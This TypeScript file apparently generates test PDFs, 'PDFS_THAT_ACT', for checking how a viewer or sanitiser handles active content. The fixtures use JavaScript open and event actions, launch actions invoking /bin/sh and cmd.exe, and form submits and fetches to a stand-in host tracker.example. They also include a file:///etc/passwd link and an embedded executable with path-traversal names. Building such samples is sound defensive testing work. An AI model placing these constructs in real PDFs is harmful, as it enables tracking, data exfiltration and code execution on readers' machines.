import { deflated, onePage, WORDS } from './pdf-writer.ts';
import { trick } from './trick.ts';

/** Where a file would send what it learned, if anything of it ran. */
const OUT = 'http://tracker.example/';
const SCRIPT = `app.alert('ran'); app.launchURL('${OUT}', true); this.submitForm('${OUT}');`;
const JS = `<< /S /JavaScript /JS (${SCRIPT.replaceAll('(', '\\(').replaceAll(')', '\\)')}) >>`;
const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A ${action} >>`;

/** PDFs that want to run, open, fetch or send something. */
export const PDFS_THAT_ACT = [
  trick('pdf-javascript-at-every-event.pdf', () =>
    onePage({
      catalog: `/OpenAction 6 0 R /AA << /WC 6 0 R /WS 6 0 R /DS 6 0 R /WP 6 0 R /DP 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> /AcroForm << /NeedAppearances true /Fields [7 0 R] /CO [7 0 R] >>`,
      page: '/AA << /O 6 0 R /C 6 0 R >> /Annots [7 0 R 8 0 R]',
      more: {
        6: JS,
        7: '<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (v) /Rect [50 50 200 80] /A 6 0 R /AA << /K 6 0 R /F 6 0 R /V 6 0 R /C 6 0 R /PV 6 0 R /Fo 6 0 R /E 6 0 R >> >>',
        8: link('6 0 R'),
      },
    }),
  ),
  trick('pdf-launches-programs.pdf', () =>
    onePage({
      catalog: '/OpenAction 6 0 R',
      page: '/Annots [7 0 R]',
      more: {
        6: '<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc.exe) >> /Unix << /F (/bin/sh) >> /Next << /S /Named /N /Print >> >>',
        7: link('6 0 R'),
      },
    }),
  ),
  trick('pdf-goes-online.pdf', () =>
    onePage({
      content: { entries: `/F << /FS /URL /F (${OUT}content) >>`, stream: WORDS },
      catalog: `/OpenAction << /S /URI /URI (${OUT}open) >> /URI << /Base (${OUT}) >>`,
      page: '/Annots [6 0 R 7 0 R 8 0 R 9 0 R]',
      more: {
        6: link(`<< /S /URI /URI (${OUT}link) /IsMap true >>`),
        7: link(`<< /S /GoToR /F << /FS /URL /F (${OUT}other.pdf) >> /D [0 /Fit] /NewWindow true >>`),
        8: link(`<< /S /SubmitForm /F << /FS /URL /F (${OUT}form) >> /Flags 4 >>`),
        9: link(`<< /S /ImportData /F << /FS /URL /F (${OUT}data.fdf) >> >>`),
      },
    }),
  ),
  trick('pdf-javascript-links.pdf', () =>
    onePage({
      page: '/Annots [6 0 R 7 0 R 8 0 R]',
      more: {
        6: link("<< /S /URI /URI (javascript:fetch\\('http://tracker.example/'\\)) >>"),
        7: link('<< /S /URI /URI (file:///etc/passwd) >>'),
        8: link('<< /S /URI /URI (data:text/html,<script>parent.alert\\(1\\)</script>) >>'),
      },
    }),
  ),
  trick('pdf-program-inside.pdf', () =>
    onePage({
      catalog:
        '/Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R (..\\\\..\\\\autorun.inf) 6 0 R] >> >> /Collection << /View /T /D (setup.exe) >>',
      page: '/Annots [8 0 R]',
      more: {
        6: '<< /Type /Filespec /F (../../setup.exe) /UF (../../setup.exe) /EF << /F 7 0 R >> >>',
        7: deflated(`MZ${'\0'.repeat(500)}`, '/Type /EmbeddedFile'),
        8: '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 40 40] /FS 6 0 R >>',
      },
    }),
  ),
  trick('pdf-film-sound-and-flash.pdf', () =>
    onePage({
      page: '/Annots [6 0 R 7 0 R 8 0 R 9 0 R]',
      more: {
        6: `<< /Type /Annot /Subtype /RichMedia /Rect [0 0 300 300] /RichMediaSettings << /Activation << /Condition /PO >> >> /RichMediaContent << /Assets << /Names [(a.swf) 10 0 R] >> >> >>`,
        7: `<< /Type /Annot /Subtype /Screen /Rect [0 300 300 600] /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /CT (video/mp4) /D << /FS /URL /F (${OUT}film.mp4) >> >> >> >> /AA << /PO << /S /Rendition /OP 0 >> >> >>`,
        8: '<< /Type /Annot /Subtype /Sound /Rect [300 0 400 100] /Sound 10 0 R >>',
        9: '<< /Type /Annot /Subtype /3D /Rect [300 300 500 500] /3DD << /Type /3D /Subtype /U3D >> /3DA << /A /PO >> >>',
        10: { entries: '/R 8000 /C 1', stream: 'FWS' },
      },
    }),
  ),
  trick('pdf-xfa-form.pdf', () =>
    onePage({
      catalog: '/NeedsRendering true /AcroForm << /Fields [] /XFA 6 0 R >>',
      more: {
        6: {
          entries: '',
          stream: `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="a" layout="tb"><pageSet><pageArea><contentArea/><medium short="210mm" long="297mm"/></pageArea></pageSet><event activity="initialize"><script contentType="application/x-javascript">${SCRIPT}</script></event><draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><a href="javascript:alert(1)">words</a><img src="${OUT}a.png"/></body></exData></value></draw></subform></template></xdp:xdp>`,
        },
      },
    }),
  ),
];
